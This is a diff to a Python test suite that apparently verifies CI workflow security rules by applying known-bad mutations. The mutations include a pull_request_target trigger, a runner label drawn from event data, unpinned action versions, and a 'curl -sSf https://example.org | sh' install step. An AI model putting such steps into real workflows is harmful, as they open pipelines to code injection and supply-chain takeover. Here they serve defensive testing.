@@ -92,6 +92,17 @@ def test_no_workflow_breaks(rule: Rule, workflow: Workflow):
 
 CHECKOUT = "          persist-credentials: false\n"
 INSTALL = "      - run: tools/install-locked python3 requirements/action.txt\n"
+
+
+def pin_of(action: str, name: str) -> tuple[str, str, str]:
+    """Return the pin of an action in a file as written, its commit and its version."""
+    pin = re.search(rf"{action}(@[0-9a-f]{{40}})( # v[\d.]+)", shipped(name).text)
+    assert pin is not None
+    return pin[1] + pin[2], pin[1], pin[2]
+
+
+PIN, COMMIT, VERSION = pin_of("actions/checkout", "ci.yml")
+PYTHON_VERSION = pin_of("actions/setup-python", "check/action.yml")[2]
 # Rule, file, what stands there, and what an attacker or a hurried maintainer would write.
 MUTATIONS: list[tuple[Rule, str, str, str]] = [
     (row_01_pwn_request, "pr-report.yml", "  workflow_run: #", "  pull_request_target: #"),
@@ -214,10 +225,10 @@ MUTATIONS: list[tuple[Rule, str, str, str]] = [
         "geneb_ci audit deliver; git fetch",
     ),
     (row_07_self_hosted, "pr-validate.yml", "ubuntu-24.04", "${{ github.event.label.name }}"),
-    (row_24_hijack, "ci.yml", "@9c091bb21b7c1c1d1991bb908d89e4e9dddfe3e0 # v7.0.0", "@v7"),
-    (row_24_hijack, "ci.yml", "@9c091bb21b7c1c1d1991bb908d89e4e9dddfe3e0 # v7.0.0", "@9c091bb"),
-    (row_24_hijack, "ci.yml", " # v7.0.0", ""),
-    (row_24_hijack, "check/action.yml", " # v6.3.0", " # latest"),
+    (row_24_hijack, "ci.yml", PIN, "@v7"),
+    (row_24_hijack, "ci.yml", PIN, COMMIT[:8]),
+    (row_24_hijack, "ci.yml", VERSION, ""),
+    (row_24_hijack, "check/action.yml", PYTHON_VERSION, " # latest"),
     (row_24_hijack, "ci.yml", "    timeout-minutes", "    container: python\n    timeout-minutes"),
     (row_24_hijack, "health.yml", INSTALL, "      - run: pip install geneb-ci\n"),
     (row_24_hijack, "health.yml", INSTALL, "      - run: curl -sSf https://example.org | sh\n"),
